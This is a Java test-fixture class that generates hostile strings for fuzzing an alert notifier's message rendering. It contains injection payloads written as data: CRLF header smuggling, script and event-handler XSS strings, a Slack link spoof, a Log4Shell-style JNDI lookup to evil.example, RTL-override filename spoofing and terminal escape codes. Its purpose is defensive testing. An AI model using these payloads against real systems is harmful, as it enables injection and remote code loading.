package io.anomalystack.notifier.message;

import io.anomalystack.model.Alert;
import io.anomalystack.model.AlertState;
import io.anomalystack.model.Decision;
import io.anomalystack.model.Dimension;
import io.anomalystack.model.Findings;
import io.anomalystack.model.RuleResult;
import io.anomalystack.model.Severity;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/** Names and values as someone would write them who means harm, or whose system is broken. */
public final class Hostile {
  /** A word by which a header that was smuggled in would be seen. */
  public static final String SMUGGLED = "X-Smuggled";

  private static final List<String> PIECES =
      List.of(
          "\r\n" + SMUGGLED + ": yes",
          "\n\n<h1>",
          "</td></tr></table><script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "'\" onmouseover=\"alert(1)",
          "&amp;&lt;",
          "<!channel> <@U1> <https://evil.example|click>",
          "https://evil.example/login",
          "www.evil.example",
          "\u202Egnp.exe\u202C",
          "\u2066\u2067\u2069\u200F",
          "\u001B[2J\u001B[31m",
          "\u0000\u0007\u0008\u007F\u0085\u2028\u2029",
          "\u200B\u200D\uFEFF\u00AD\u3164",
          "\uD800",
          "\uDC00x",
          "Z\u0351\u036B\u0343\u036A\u0342\u036B\u033D\u034F\u0334\u0319\u0324\u031E",
          "😀👨‍👩‍👧‍👦",
          "商品甲",
          "Příliš žluťoučký kůň",
          "مرحبا",
          "{}[]^~|€\\",
          "=?utf-8?Q?=0D=0AX-Smuggled=3A?=",
          "{\"a\":1}",
          "%0d%0a",
          "${jndi:ldap://evil.example/a}",
          "");

  private Hostile() {}

  /** Each piece by itself, each many times over, and mixtures. */
  public static Stream<String> texts() {
    List<String> texts = new ArrayList<>(PIECES);
    for (String piece : PIECES) {
      texts.add(piece.repeat(10_000 / Math.max(1, piece.length())));
    }
    Random random = new Random(7);
    for (int i = 0; i < 200; i++) {
      StringBuilder text = new StringBuilder();
      for (int j = random.nextInt(12); j >= 0; j--) {
        text.append(PIECES.get(random.nextInt(PIECES.size())));
        text.appendCodePoint(random.nextInt(Character.MAX_CODE_POINT + 1));
      }
      texts.add(text.toString());
    }
    return texts.stream();
  }

  /** An alert all of whose texts are this one. */
  public static Alert alert(AlertState state, String text) {
    return alert(state, 1, text);
  }

  /** An alert all of whose texts are this one. */
  public static Alert alert(AlertState state, long sequence, String text) {
    Decision plain =
        Incidents.named(
            Incidents.SPIKE_OF_A, List.of(new Dimension(text, text), new Dimension("b", text)));
    Decision decision = withNames(plain, text);
    Alert of = Incidents.of(state, sequence, 12, decision, decision);
    return new Alert(
        of.incidentId(),
        sequence,
        state,
        of.severity(),
        text,
        List.of(new Dimension(text, text)),
        List.of("default", text),
        of.time(),
        of.start(),
        of.end(),
        of.anomalies(),
        of.seriesCount(),
        of.anomalyScore(),
        of.series(),
        of.cause());
  }

  private static Decision withNames(Decision decision, String text) {
    RuleResult rule = new RuleResult(text, true, Severity.WARNING, true, 54, 50, null, 1, 1, text);
    return new Decision(
            text,
            text,
            text,
            decision.anomalyDecisionThreshold(),
            decision.dimensionList(),
            decision.aggregatedMeasureValue(),
            decision.anomalyScore(),
            decision.detectionPeriodStart(),
            decision.detectionPeriodEnd(),
            decision.processedDataPoints(),
            decision.anomalyConfidenceScore(),
            1,
            decision.modelStage(),
            decision.expectedValue(),
            decision.decisionId(),
            false,
            false,
            decision.predictedValue(),
            decision.lowerBound(),
            decision.upperBound(),
            1,
            null,
            null)
        .with(new Findings(null, List.of(rule), null, null));
  }
}
